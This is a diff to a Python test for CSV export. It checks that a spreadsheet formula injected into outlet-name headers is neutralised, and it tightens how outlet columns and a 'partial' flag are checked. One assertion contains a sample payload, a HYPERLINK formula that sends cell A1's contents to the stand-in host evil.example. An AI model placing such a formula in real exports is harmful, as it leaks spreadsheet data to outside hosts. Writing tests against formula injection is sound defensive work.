@@ -83,7 +83,9 @@ def test_wide_trend_headers_are_outlet_names_and_stay_inert(store_path, tmp_path
     assert_no_live_csv_formula(rows)
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"자치경찰 매체\"" not in rows[0]
     assert any(name.startswith("'=HYPERLINK") for name in rows[0])
-    assert set(rows[1][1:]) == {"-1.0"}  # every outlet wholly negative: a negative number, not quoted
+    outlets = [i for i, name in enumerate(rows[0]) if name not in ("period", "days_in_period", "partial")]
+    assert len(outlets) >= 2 and rows[1][rows[0].index("partial")] == "false"
+    assert {rows[1][i] for i in outlets} == {"-1.0"}  # every outlet wholly negative: a negative number, not quoted
 
 
 def test_api_csv_is_neutralised(store_path):
